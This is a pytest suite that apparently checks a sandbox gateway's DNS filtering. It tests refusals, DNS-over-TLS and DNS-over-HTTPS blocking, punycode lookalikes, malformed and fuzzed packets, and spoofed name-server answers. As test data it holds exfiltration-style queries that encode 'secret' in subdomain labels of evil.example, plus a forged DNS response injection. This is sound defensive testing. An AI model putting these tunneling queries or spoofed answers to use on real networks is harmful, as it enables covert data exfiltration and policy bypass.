"""Names: what a sandbox learns from them is nothing, and nothing of its own gets out by asking for them."""

from __future__ import annotations

import random
import socket
import struct

import dns.flags
import dns.message
import dns.opcode
import dns.rcode
import dns.rdataclass
import pytest

from tests import packets
from tests.egress_host import Place
from tests.guest import Closed, addresses, refused
from tests.upstreams import EVIL, GOOD, HOST_V4, NAME_SERVER, Outside

QUERY_HEAD = bytes.fromhex("abcd01000001000000000000")


def ask_bytes(guest: Place, question: bytes, *, server: str | None = None) -> bytes | None:
    """Send a question as it is given, and then a proper one; return the answer to the first if there was one."""
    with guest.socket(kind=socket.SOCK_DGRAM) as sock:
        sock.connect((server or str(guest.link.host_v4), 53))
        sock.send(question)
        sock.send(b"\x00\x07" + QUERY_HEAD[2:] + b"\x04good\x07example\x00\x00\x01\x00\x01")
        first = sock.recv(4096)
        return None if first[:2] == b"\x00\x07" else first


def test_an_allowed_name_is_the_gateway_itself_and_nobody_outside_is_asked(guest: Place, outside: Outside) -> None:
    assert addresses(guest.ask_name("good.example")) == [str(guest.link.host_v4)]
    assert addresses(guest.ask_name("good.example", "AAAA")) == [str(guest.link.host_v6)]
    assert outside.seen() == []


@pytest.mark.parametrize("name", ["evil.example", "c2VjcmV0.evil.example", "c2VjcmV0.good.example", "example", "."])
@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
def test_a_name_that_is_not_allowed_is_refused_and_asked_of_nobody(
    guest: Place, outside: Outside, name: str, *, tcp: bool
) -> None:
    """N1"""
    assert refused(guest.ask_name(name, tcp=tcp))
    assert outside.seen() == []
    assert guest.refusals() == {("default-deny", name)}


def test_programs_inside_get_the_same_answers_through_their_own_resolver(guest: Place, outside: Outside) -> None:
    """N1"""
    assert str(guest.link.host_v4) in guest.run("getent", "ahostsv4", "good.example").stdout
    assert guest.run("getent", "ahostsv4", "c2VjcmV0.evil.example").returncode == 2
    assert outside.seen() == []


@pytest.mark.parametrize("policy", ["none", "public-internet"])
def test_a_sandboxs_own_host_name_is_itself_whatever_it_may_reach(guest: Place, outside: Outside, policy: str) -> None:
    guest.attach(policy)
    for name in (guest.sandbox, guest.sandbox.upper() + "."):
        assert addresses(guest.ask_name(name)) == ["127.0.0.1"]
        assert addresses(guest.ask_name(name, "AAAA")) == ["::1"]
        assert addresses(guest.ask_name(name, "TXT")) == []
    assert guest.egress() == []
    assert outside.seen() == []


def test_another_sandboxs_host_name_is_a_name_as_any_other(guest: Place, neighbour: Place, outside: Outside) -> None:
    assert refused(guest.ask_name(neighbour.sandbox))
    assert outside.seen() == []


@pytest.mark.parametrize("server", [NAME_SERVER, "8.8.8.8", "2001:4860:4860::8888"])
@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
def test_every_other_name_server_is_the_gateway_too(guest: Place, outside: Outside, server: str, *, tcp: bool) -> None:
    """N1"""
    assert refused(guest.ask_name("evil.example", server=server, tcp=tcp))
    assert addresses(guest.ask_name("good.example", server=server, tcp=tcp)) == [str(guest.link.host_v4)]
    assert outside.seen() == []


def test_dns_over_tls_reaches_no_name_server(guest: Place, outside: Outside) -> None:
    """N1"""
    with pytest.raises(Closed):
        guest.tls("good.example", port=853, to=NAME_SERVER)
    with pytest.raises(Closed):
        guest.tls(None, port=853, to=NAME_SERVER)
    assert outside.seen() == []
    with socket.create_connection((NAME_SERVER, 853), 5) as host:  # it is there for who may
        host.send(b"x")
        assert host.recv(1) == b"x"
    assert [row["port"] for row in outside.seen("raw")] == [853]


def test_dns_over_https_reaches_no_host_that_is_not_allowed(guest: Place, outside: Outside) -> None:
    """N1"""
    url = "https://evil.example/dns-query?dns=q80BAAABAAAAAAAAA3d3dw"
    assert guest.get(url).refusal == (403, "default-deny")
    with pytest.raises(Closed):
        guest.get(url, to=EVIL)
    assert outside.seen() == []
    guest.reaches()


@pytest.mark.parametrize(
    "kind", ["TXT", "NULL", "ANY", "MX", "SRV", "CNAME", "NS", "SOA", "HTTPS", "SVCB", "NAPTR", "PTR"]
)
def test_questions_of_no_other_kind_get_through(guest: Place, outside: Outside, kind: str) -> None:
    """N1"""
    allowed = guest.ask_name("good.example", kind)
    assert allowed is not None
    assert (allowed.rcode(), allowed.answer) == (dns.rcode.NOERROR, [])
    assert refused(guest.ask_name("c2VjcmV0.evil.example", kind))
    assert outside.seen() == []


def test_a_question_of_another_class_or_operation_gets_nothing(guest: Place, outside: Outside) -> None:
    chaos = dns.message.make_query("version.bind", "TXT", dns.rdataclass.CH)
    assert refused(guest.ask_message(chaos))
    assert refused(guest.ask_message(dns.message.make_query("good.example", "A", dns.rdataclass.ANY)))
    for operation in (dns.opcode.NOTIFY, dns.opcode.STATUS):
        other = dns.message.make_query("good.example", "A")
        other.set_opcode(operation)
        answer = guest.ask_message(other)
        assert answer is not None
        assert (answer.rcode(), answer.answer) == (dns.rcode.NOTIMP, [])
    assert outside.seen() == []


def test_a_transfer_of_a_zone_gets_nothing(guest: Place, outside: Outside) -> None:
    answer = guest.ask_name("good.example", "AXFR", tcp=True)
    assert answer is not None
    assert answer.answer == []
    assert outside.seen() == []


def test_a_name_below_an_allowed_wildcard_carries_nothing_out_by_being_asked_for(
    guest: Place, outside: Outside
) -> None:
    """N1"""
    guest.attach({"rules": [{"hosts": ["*.wild.example"]}]})
    assert addresses(guest.ask_name("c2VjcmV0.wild.example")) == [str(guest.link.host_v4)]
    assert outside.seen() == []
    assert guest.get("http://data.wild.example/hello").status == 200
    assert outside.asked() == {"data.wild.example"}  # what the policy allows is asked for by us, when it is used


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_request_that_is_refused_asks_no_name_server(guest: Place, outside: Outside, scheme: str) -> None:
    """N1"""
    assert guest.get(f"{scheme}://ONSWG4TFOQ.evil.example/").refusal == (403, "default-deny")
    assert outside.seen() == []
    assert guest.refusals() == {("default-deny", "onswg4tfoq.evil.example")}


def test_a_request_whose_path_is_refused_asks_no_name_server(guest: Place, outside: Outside) -> None:
    """N1"""
    guest.attach({"rules": [{"hosts": ["*.wild.example"], "paths": ["/ok/**"]}]})
    assert guest.get("https://c2VjcmV0.wild.example/no").refusal == (403, "default-deny")
    assert guest.get("https://c2VjcmV0.wild.example/ok/../no").refusal == (403, "ambiguous-path")
    assert outside.seen() == []
    assert guest.get("https://yes.wild.example/ok/a").status == 404
    assert outside.asked() == {"yes.wild.example"}


def test_a_forged_answer_with_a_name_servers_source_leads_nowhere(guest: Place, outside: Outside) -> None:
    """The first published attack: the guest answers for the name server that the gateway believes."""
    question = dns.message.make_query("forged.wild.example", "A")
    forged = dns.message.make_response(question)
    forged.answer.append(dns.rrset.from_text("forged.wild.example.", 3600, "IN", "A", EVIL))
    guest.attach({"rules": [{"hosts": ["*.wild.example"]}]})
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as host:
        host.bind((HOST_V4, 0))
        host.settimeout(5)
        port = host.getsockname()[1]
        for source in (NAME_SERVER, guest.link.host_v4, guest.link.guest_v4):
            packets.send(guest, packets.udp(source, HOST_V4, 53, port, forged.to_wire()))
        assert guest.get("https://forged.wild.example/hello").status == 200
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
            other.sendto(b"control", (HOST_V4, port))
        assert host.recv(4096) == b"control"  # and nothing before it
    assert {row["server"] for row in outside.seen("http")} == {GOOD}


def test_an_address_that_the_guest_made_up_for_an_allowed_name_is_not_dialled(guest: Place, outside: Outside) -> None:
    """The first published attack, its second half."""
    with pytest.raises(Closed):
        guest.get("https://good.example/hello", to=EVIL)
    assert guest.get("http://good.example/hello", to=EVIL).refusal == (403, "direct-address")
    assert outside.seen() == []
    guest.reaches()
    assert {row["server"] for row in outside.seen("http")} == {GOOD}
    assert ("direct-address", "good.example") in guest.refusals()


@pytest.mark.parametrize("name", ["GOOD.EXAMPLE", "good.example.", "gOOd.eXample."])
def test_case_and_a_trailing_dot_make_no_other_name(guest: Place, outside: Outside, name: str) -> None:
    assert addresses(guest.ask_name(name)) == [str(guest.link.host_v4)]
    answer = guest.get(f"http://{name}/hello")
    assert (answer.status, answer.body) == (200, b"hello")
    assert [dict(row["headers"])["host"] for row in outside.seen("http")] == ["good.example"]


@pytest.mark.parametrize("name", ["EVIL.EXAMPLE", "evil.example.", "eVil.exaMPLE."])
def test_case_and_a_trailing_dot_get_around_no_rule(guest: Place, outside: Outside, name: str) -> None:
    guest.attach({"rules": [{"name": "no", "action": "deny", "hosts": ["evil.example"]}, {"hosts": ["*"]}]})
    assert refused(guest.ask_name(name))
    assert guest.get(f"http://{name}/").refusal == (403, "rule")
    assert outside.seen() == []
    guest.reaches()


def test_a_name_in_punycode_is_itself_alone(guest: Place, outside: Outside) -> None:
    guest.attach({"rules": [{"hosts": ["xn--mnchen-3ya.example"]}]})
    assert guest.get("https://xn--mnchen-3ya.example/hello").status == 200
    assert refused(guest.ask_name("xn--gd-1ib0b.example"))
    assert guest.get("http://xn--gd-1ib0b.example/").refusal == (403, "default-deny")  # looks like good.example
    assert guest.get("http://m\xfcnchen.example/").refusal == (400, "bad-host")
    assert outside.asked() == {"xn--mnchen-3ya.example"}


@pytest.mark.parametrize(
    "labels",
    [
        b"\x0cgood.example\x00",
        b"\x04good\x08example\x00\x00",
        b"\x04good\x07example\x04evil\x07example\x00",
        b"\x05good\x00\x07example\x00",
        b"\x05 good\x07example\x00",
        b"\x08m\xc3\xbcnchen\x07example\x00",
        b"\x01*\x04good\x07example\x00",
    ],
)
def test_labels_that_look_like_an_allowed_name_are_not_it(guest: Place, outside: Outside, labels: bytes) -> None:
    answer = ask_bytes(guest, QUERY_HEAD + labels + b"\x00\x01\x00\x01")
    assert answer is not None
    assert answer[3] & 0x0F == dns.rcode.REFUSED
    assert int.from_bytes(answer[6:8]) == 0
    assert outside.seen() == []


@pytest.mark.parametrize(
    "message",
    [
        b"",
        b"\xab",
        QUERY_HEAD,
        QUERY_HEAD + b"\xc0\x0c\x00\x01\x00\x01",
        QUERY_HEAD + b"\x3f" + b"a" * 20,
        QUERY_HEAD[:4] + b"\xff\xff" + QUERY_HEAD[6:] + b"\x04good\x07example\x00\x00\x01\x00\x01",
        QUERY_HEAD[:2] + b"\x81" + QUERY_HEAD[3:] + b"\x04good\x07example\x00\x00\x01\x00\x01",
        QUERY_HEAD + b"\x01a" * 200 + b"\x00\x00\x01\x00\x01",
    ],
    ids=["empty", "one-byte", "no-question", "loop", "cut-off", "too-many", "a-response", "too-long"],
)
def test_what_is_no_question_gets_no_answer_and_breaks_nothing(guest: Place, outside: Outside, message: bytes) -> None:
    answer = ask_bytes(guest, message)
    assert answer is None or int.from_bytes(answer[6:8]) == 0
    assert outside.seen() == []


def test_questions_with_random_bytes_in_them_break_nothing(guest: Place, outside: Outside) -> None:
    chance = random.Random(5)  # the same ones every time
    proper = dns.message.make_query("good.example", "A", use_edns=True, payload=1232).to_wire()
    with guest.socket(kind=socket.SOCK_DGRAM) as sock:
        sock.connect((str(guest.link.host_v4), 53))
        for _ in range(150):
            mutated = bytearray(proper)
            for _ in range(chance.randint(1, 6)):
                mutated[chance.randrange(2, len(mutated))] = chance.randrange(256)
            sock.send(bytes(mutated))
    assert addresses(guest.ask_name("good.example")) == [str(guest.link.host_v4)]
    assert outside.seen() == []


def test_over_tcp_a_length_that_is_a_lie_ends_that_connection_alone(guest: Place) -> None:
    with guest.tcp(53) as sock:
        sock.sendall(struct.pack("!H", 3) + b"abc")
        assert sock.recv(10) == b""
    assert addresses(guest.ask_name("good.example", tcp=True)) == [str(guest.link.host_v4)]


def test_with_rules_for_networks_a_name_is_still_asked_for_only_where_it_is_allowed(
    guest: Place, outside: Outside
) -> None:
    guest.attach({"rules": [{"hosts": ["here.wild.example"]}], "networks": [{"networks": [f"{GOOD}/32"]}]})
    assert addresses(guest.ask_name("here.wild.example")) == [GOOD]
    assert refused(guest.ask_name("evil.example"))
    assert refused(guest.ask_name("c2VjcmV0.here.wild.example"))
    assert outside.asked() == {"here.wild.example"}


def test_no_address_that_is_not_public_is_told_to_a_guest(guest: Place, outside: Outside) -> None:
    names = ["private.example", "metadata.example", "loopback.example"]
    guest.attach({"rules": [{"hosts": names}], "networks": [{"networks": ["0.0.0.0/0"]}]})
    for name in names:
        assert addresses(guest.ask_name(name)) == [str(guest.link.host_v4)]
    assert outside.asked() <= set(names)


def test_the_gateway_answers_nobody_but_its_sandboxes(guest: Place, outside: Outside) -> None:
    port = guest.host.settings.gateway_dns_port
    question = dns.message.make_query("good.example", "A")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as host:
        host.sendto(question.to_wire(), (HOST_V4, port))
        host.sendto(question.to_wire(), (str(guest.link.host_v4), port))
        assert addresses(guest.ask_name("good.example")) == [str(guest.link.host_v4)]  # answered later, and here first
        host.setblocking(False)  # noqa: FBT003 - of socket
        with pytest.raises(BlockingIOError):
            host.recv(4096)
